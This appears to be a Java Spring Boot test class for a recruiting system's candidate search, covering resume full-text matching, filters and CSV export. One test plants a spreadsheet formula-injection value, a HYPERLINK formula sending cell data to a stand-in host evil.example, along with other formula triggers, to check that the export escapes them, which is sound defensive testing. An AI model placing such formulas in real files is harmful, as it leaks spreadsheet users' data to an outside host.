package io.hirestage.pipeline;

import io.hirestage.candidate.CandidateQuery;
import io.hirestage.candidate.CandidateSearch;
import io.hirestage.jobrole.ApplicationStatus;
import static io.hirestage.pipeline.PipelineFixture.as;
import static org.assertj.core.api.Assertions.assertThat;

import io.hirestage.candidate.CandidateDraft;
import io.hirestage.candidate.CandidateSummary;
import io.hirestage.candidate.Candidates;
import io.hirestage.candidate.SourcingChannel;
import io.hirestage.security.RunAsSystem;
import io.hirestage.candidate.Resumes;
import io.hirestage.jobrole.Stage;
import io.hirestage.opening.OpeningView;
import io.hirestage.security.Role;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.data.domain.PageRequest;
import org.springframework.data.domain.Sort;
import org.springframework.security.test.context.support.WithMockUser;

@SpringBootTest
@WithMockUser(username = "recruiter", roles = "RECRUITER")
class CandidateSearchTests {

    @Autowired
    CandidateSearch search;

    @Autowired
    Resumes resumes;

    @Autowired
    Candidates candidates;

    @Autowired
    Applications applications;

    @Autowired
    PipelineFixture fixture;

    @Test
    void resumeWordsFindTheCandidateWhateverTheirOrderAndAllMustBeThere() {
        String word = uniqueWord();
        CandidateSummary ada = withResume("Ada", "Led the " + word + " migration to Kafka event sourcing; writes Go and Java.");

        assertThat(ids(CandidateQuery.text("sourcing " + word))).containsExactly(ada.id());
        assertThat(ids(CandidateQuery.text(word + " go"))).as("a short word is matched too").containsExactly(ada.id());
        assertThat(ids(CandidateQuery.text(word + " cobol"))).isEmpty();
        assertThat(ids(CandidateQuery.text(word + " ourcing"))).as("a word is found by its start, as the full-text index finds it")
                .isEmpty();
        assertThat(search.page(CandidateQuery.text(word + " ourcing"), PageRequest.of(0, 1))).isEmpty();
        // A page that fills on the way (on MariaDB, the walk through the newest candidates) holds the same candidate.
        assertThat(search.page(CandidateQuery.text("sourcing " + word), PageRequest.of(0, 1))).extracting(CandidateSummary::id)
                .containsExactly(ada.id());
    }

    @Test
    void theSkillFilterKeepsThoseWhoseResumeMentionsTheSkill() {
        String word = uniqueWord();
        CandidateSummary mentions = withResume("Grace", word + " engineer. Distributed systems understanding from five years of Raft.");
        CandidateSummary doesNot = withResume("Alan", word + " engineer. Debugging and performance analysis.");

        List<Long> found = ids(new CandidateQuery(word, null, null, "Distributed systems understanding", null, null, null));

        assertThat(found).contains(mentions.id()).doesNotContain(doesNot.id());
    }

    @Test
    void candidatesAreFoundByOpeningStageAndStatus() {
        OpeningView opening = fixture.opening();
        ApplicationView screened = fixture.applicant(opening, "Screened");
        ApplicationView rejected = fixture.applicant(opening, "Rejected");
        ApplicationView moved = applications.move(screened.id(), screened.version(), Stage.RESUME_SCREENING);
        applications.reject(rejected.id(), rejected.version(), "No response");

        assertThat(ids(new CandidateQuery(null, null, null, null, opening.id(), null, null)))
                .containsExactlyInAnyOrder(screened.candidateId(), rejected.candidateId());
        assertThat(ids(new CandidateQuery(null, null, null, null, opening.id(), Stage.RESUME_SCREENING, ApplicationStatus.ACTIVE)))
                .containsExactly(moved.candidateId());
        assertThat(ids(new CandidateQuery(null, null, null, null, opening.id(), null, ApplicationStatus.REJECTED)))
                .containsExactly(rejected.candidateId());
    }

    @Test
    void theCsvExportHoldsWhatTheGridShowsInItsOrderWithAwkwardValuesQuoted() throws Exception {
        String word = uniqueWord();
        CandidateSummary first = fixture.candidate(word + " Zed \"Bo\" Smith, Jr");
        CandidateSummary second = fixture.candidate(word + " Abe");

        StringWriter out = new StringWriter();
        search.exportCsv(CandidateQuery.text(word), Sort.by("fullName"), out);

        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(out.toString())).getRecords();
        assertThat(rows).extracting(row -> row.get("Name")).containsExactly(second.fullName(), first.fullName());
        assertThat(rows.getFirst().get("Email")).isEqualTo(second.email());
        assertThat(rows.getFirst().get("Source")).isEqualTo("LinkedIn groups");
    }

    @Test
    void noCellOfTheCsvExportRunsAsAFormulaInASpreadsheet() throws Exception {
        String word = uniqueWord();
        CandidateDraft draft = new CandidateDraft();
        draft.setFullName(word + " Mallory");
        draft.setEmail(word + "@example.org");
        draft.setPhone("+44 20 7946 0000");
        draft.setLocation("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")");
        draft.setTags("@SUM(1+1), -2+3");
        draft.setChannel(SourcingChannel.GITHUB);
        RunAsSystem.call(() -> candidates.add(draft, true));

        StringWriter out = new StringWriter();
        search.exportCsv(CandidateQuery.text(word), Sort.unsorted(), out);

        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(out.toString())).getRecords().getFirst();
        assertThat(row.get("Location")).isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")");
        assertThat(row.get("Phone")).isEqualTo("'+44 20 7946 0000");
        assertThat(row.get("Tags")).startsWith("'");
        assertThat(row.get("Name")).as("a harmless cell is left as it is").isEqualTo(word + " Mallory");
        assertThat(out.toString().lines().skip(1).findFirst().orElseThrow()).as("every cell quoted").startsWith("\"" + word);
    }

    private CandidateSummary withResume(String name, String text) {
        CandidateSummary candidate = fixture.candidate(name);
        as("recruiter", Role.RECRUITER, () -> resumes.upload(candidate.id(), "resume.txt", text.getBytes(StandardCharsets.UTF_8)));
        return candidate;
    }

    private List<Long> ids(CandidateQuery query) {
        return search.page(query, PageRequest.of(0, 50)).stream().map(CandidateSummary::id).toList();
    }

    /** A word no other test's resume has, so each test sees its own candidates only. */
    private static String uniqueWord() {
        StringBuilder word = new StringBuilder("zq");
        UUID.randomUUID().toString().chars().filter(Character::isDigit).limit(8).forEach(digit -> word.append((char) ('a' + digit - '0')));
        return word.toString();
    }
}
